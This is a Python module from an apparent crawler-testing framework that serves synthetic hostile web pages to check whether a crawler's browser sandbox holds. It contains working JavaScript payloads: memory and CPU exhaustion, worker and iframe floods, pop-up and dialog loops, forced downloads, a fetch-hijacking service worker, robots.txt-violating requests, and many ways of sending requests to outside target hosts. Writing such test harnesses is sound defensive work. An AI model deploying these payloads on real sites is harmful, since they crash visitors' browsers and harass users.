"""Hostile hosts: scripts that do to a browser what can be done, and to the machine that it runs on.

All of their pages look like applications that ask for JavaScript, so that they are rendered, and have a few words and
links as they are sent: whoever cannot render them still has those. The script is at /app.js of each host.

Two things tell that a crawler was broken. /leaked/WHAT is only asked for by a script that found what it must not
find: something that another page stored, a window that opened, a service worker that answered. And `options.targets`
are URLs outside of this web that scripts try to reach, by every way that browsers have; who listens there counts.
"""

from __future__ import annotations

import json
from urllib.parse import unquote

from gossamer.synthetic_web.answer import Answer, Delivery, Visit
from gossamer.synthetic_web.atlas import Atlas
from gossamer.synthetic_web.html import HTML, plain_answer
from gossamer.synthetic_web.scripted import applications
from gossamer.synthetic_web.scripted.content import JAVASCRIPT, content, file, page_at, shared_file

LEAKED = "/leaked/"
REQUESTS = 10_000
PREFETCHED = "prefetched.example"  # a name that nothing is to be asked of: only a browser would look it up

ALLOCATES = """
const kept = [];
setInterval(() => { for (let i = 0; i < 40; i++) kept.push(new Array(1 << 17).fill(Math.random())); }, 1);
"""
BUFFERS = """
const kept = [];
setInterval(() => { const block = new Uint8Array(64 << 20); block.fill(1); kept.push(block); }, 1);
"""
SPINS = "setTimeout(() => { while (true) {} }, 20);\n"
GROWS = """
let size = 1;
setInterval(() => { for (let i = 0; i < size; i++) add("p", "More and more of " + i); size *= 2; }, 10);
"""
ASKS = f"for (let i = 0; i < {REQUESTS}; i++) fetch('/api/' + i).catch(() => 0);\n"
SWALLOWS = "fetch('/endless').then((answer) => answer.text());\nfetch('/circle/0').catch(() => 0);\n"
REACHES = """
for (const target of TARGETS) {
  const web = target.replace("http", "ws");
  const tries = [
    () => fetch(target, { mode: "no-cors" }).catch(() => 0),
    () => fetch("/away?to=" + encodeURIComponent(target), { mode: "no-cors" }).catch(() => 0),
    () => { const r = new XMLHttpRequest(); r.open("GET", target); r.send(); },
    () => new WebSocket(web),
    () => new EventSource(target),
    () => navigator.sendBeacon(target, "x"),
    () => { new Image().src = target; },
    () => { add("iframe", "").src = target; },
    () => { add("object", "").data = target; },
    () => { add("video", "").src = target; },
    () => { add("script", "").src = target; },
    () => link("stylesheet", target), () => link("prefetch", target), () => link("preload", target),
    () => link("preconnect", target), () => link("dns-prefetch", target), () => link("icon", target),
    () => link("prerender", target), () => link("modulepreload", target), () => link("manifest", target),
    () => import(target).catch(() => 0),
    () => new Worker(URL.createObjectURL(new Blob(["importScripts('" + target + "')"]))),
    () => new Worker(URL.createObjectURL(new Blob(["fetch('" + target + "')"]))),
    () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(target).host }] });
      peer.createDataChannel("x");
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
    () => {
      const form = add("form", "");
      const frame = add("iframe", "");
      frame.name = form.target = "f" + target;
      form.method = "post"; form.action = target; form.submit();
    },
    () => { add("style", "@import url(" + target + "); body { background: url(" + target + ") }"); },
    () => { if (window.WebTransport) new WebTransport(target.replace("http:", "https:")).ready.catch(() => 0); },
    () => {
      add("script", JSON.stringify({ prefetch: [{ source: "list", urls: [target] }] })).type = "speculationrules";
    },
  ];
  link("dns-prefetch", "http://PREFETCHED"); link("preconnect", "http://PREFETCHED");
  for (const attempt of tries) { try { attempt(); } catch (fault) { add("i", "no"); } }
}
function link(rel, href) {
  const element = document.createElement("link");
  element.rel = rel; element.href = href; element.as = "script";
  document.head.appendChild(element);
}
"""
REACHES = REACHES.replace("PREFETCHED", PREFETCHED)
GOES = """
setTimeout(() => { location.href = TARGETS[number % TARGETS.length] || "/elsewhere"; }, 30);
setTimeout(() => { location.reload(); }, 60);
"""
POPS_UP = """
for (let i = 0; i < 50; i++) {
  const opened = window.open("/leaked/window");
  const anchor = add("a", "");
  anchor.setAttribute("href", "/leaked/window"); anchor.target = "_blank"; anchor.click(); anchor.remove();
}
"""
ASKS_PEOPLE = """
onbeforeunload = () => "stay";
setInterval(() => { alert("1"); confirm("2"); prompt("3"); print(); }, 1);
navigator.geolocation.getCurrentPosition(() => fetch("/leaked/position"));
Notification.requestPermission().then((said) => { if (said === "granted") fetch("/leaked/permission"); });
"""
DOWNLOADS = """
for (const href of ["/file.zip", URL.createObjectURL(new Blob(["gossamer-was-here"])), "data:text/plain,x"]) {
  const anchor = add("a", "");
  anchor.setAttribute("href", href); anchor.download = "gossamer-was-here.txt"; anchor.click(); anchor.remove();
}
add("iframe", "").src = "/file.zip";
"""
STORES = """
const seen = [];
if (document.cookie.includes("kept=")) seen.push("cookie");
try { if (localStorage.kept) seen.push("localStorage"); localStorage.kept = "1"; } catch (fault) {}
document.cookie = "kept=1; max-age=86400; path=/";
try {
  const open = indexedDB.open("kept");
  open.onupgradeneeded = () => open.result.createObjectStore("kept");
  open.onsuccess = () => {
    const all = open.result.transaction("kept", "readwrite").objectStore("kept");
    all.get("kept").onsuccess = (event) => {
      if (event.target.result) fetch("/leaked/indexedDB");
      all.put("1", "kept");
    };
  };
} catch (fault) {}
if (window.caches) caches.open("kept").then(async (cache) => {
  if (await cache.match("/kept")) fetch("/leaked/caches");
  await cache.put("/kept", new Response("1"));
}).catch(() => 0);
seen.forEach((what) => fetch("/leaked/" + what));
"""
SERVES = """
if (navigator.serviceWorker) {
  if (navigator.serviceWorker.controller) fetch("/leaked/serviceWorker");
  navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)
    .then(() => fetch("/leaked/ready")).catch(() => 0);
}
try { new SharedWorker("/worker.js"); } catch (fault) {}
"""
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => event.respondWith(fetch("/leaked/worker")));
"""
WORKS = """
for (let i = 0; i < 40; i++) new Worker(URL.createObjectURL(new Blob(["const a = []; while (true) a.push(i);"])));
"""
FORBIDDEN = "for (let i = 0; i < 5; i++) fetch(CLOSED + i + '.json').then((answer) => fetch('/leaked/robots'));\n"
HISTORY = "setInterval(() => { for (let i = 0; i < 1000; i++) history.pushState(i, '', '/at/' + i); }, 1);\n"
FRAMES = "document.write('<iframe src=\"/item/1\"></iframe>'.repeat(500));\n"

START = """
const number = Number(location.pathname.split("/")[2] || 0);
function add(tag, text) {
  const element = document.body.appendChild(document.createElement(tag));
  element.textContent = text;
  return element;
}
"""


KINDS = {
    "allocates": ALLOCATES,
    "buffers": BUFFERS,
    "spins": SPINS,
    "grows": GROWS,
    "asks": ASKS,
    "swallows": SWALLOWS,
    "reaches": REACHES,
    "goes": GOES,
    "pops_up": POPS_UP,
    "asks_people": ASKS_PEOPLE,
    "downloads": DOWNLOADS,
    "stores": STORES,
    "serves": SERVES,
    "works": WORKS,
    "forbidden": FORBIDDEN,
    "history": HISTORY,
    "frames": FRAMES,
}
PAGES = 4  # of each: what one page stores another one may find


def kind_of(atlas: Atlas, host: int) -> str | None:
    """What a host does to browsers; None where it does nothing."""
    place, kinds = host - atlas.options.first_hostile, atlas.options.hostile_kinds or tuple(KINDS)
    return kinds[place % len(kinds)] if 0 <= place < atlas.options.hostile_hosts else None


def hostile_answer(atlas: Atlas, visit: Visit) -> Answer | None:
    kind, path = kind_of(atlas, visit.host), "/" + "/".join(visit.parts)
    if kind is None:
        return None
    page = page_at(path, PAGES)
    if page is not None:
        return _page(atlas, visit.host, page)
    if path.startswith(LEAKED):
        return plain_answer("leaked", 200)
    match visit.parts:
        case ["app.js"]:
            return file("script", JAVASCRIPT, _told(atlas) + START + KINDS[kind])
        case ["worker.js"]:
            return file("script", JAVASCRIPT, WORKER)
        case ["file.zip"]:
            headers = (("Content-Type", "application/zip"), ("Content-Disposition", "attachment"))
            return Answer("download", headers=headers, body=b"PK\x05\x06" + b"\0" * 18)
        case ["api", number]:
            return file("data", "application/json", json.dumps({"number": number}))
        case ["endless"]:
            return Answer("endless", body=b"x" * 1000, delivery=Delivery.ENDLESS)
        case ["circle", number] if number.isdecimal() and len(number) < 9:
            return plain_answer("circle", 302, ("Location", f"/circle/{int(number) + 1}"))
        case ["away"] if (to := unquote(visit.query.removeprefix("to="))) in atlas.options.targets:
            return plain_answer("away", 302, ("Location", to))
    return shared_file(path)


def _told(atlas: Atlas) -> str:
    """What scripts have to know: where to go, and the data that robots.txt of another host forbids."""
    scripted = range(atlas.options.first_scripted, atlas.options.first_decorated)
    closed = [host for host in scripted if applications.kind_of(atlas, host) == "closed"]
    data = atlas.url(closed[0], f"/api/{closed[0]}/") if closed else "/api/"
    return f"const TARGETS = {json.dumps(list(atlas.options.targets))};\nconst CLOSED = {json.dumps(data)};\n"


def _page(atlas: Atlas, host: int, page: int) -> Answer:
    whole = content(atlas, host, page, PAGES)
    links = "".join(f'<a href="{anchor.href}">{anchor.text}</a>\n' for anchor in whole.anchors)
    body = (
        f'<!DOCTYPE html>\n<html lang="en">\n<head>\n<title>{whole.title}</title>\n</head>\n<body>\n'
        "<noscript>Please enable JavaScript to use this site.</noscript>\n"
        f'<div id="app"></div>\n<p>{whole.sentences[0]}</p>\n{links}'
        '<script src="/app.js"></script>\n</body>\n</html>\n'
    )
    return Answer("hostile", headers=(("Content-Type", HTML),), body=body.encode(), anchors=whole.anchors)
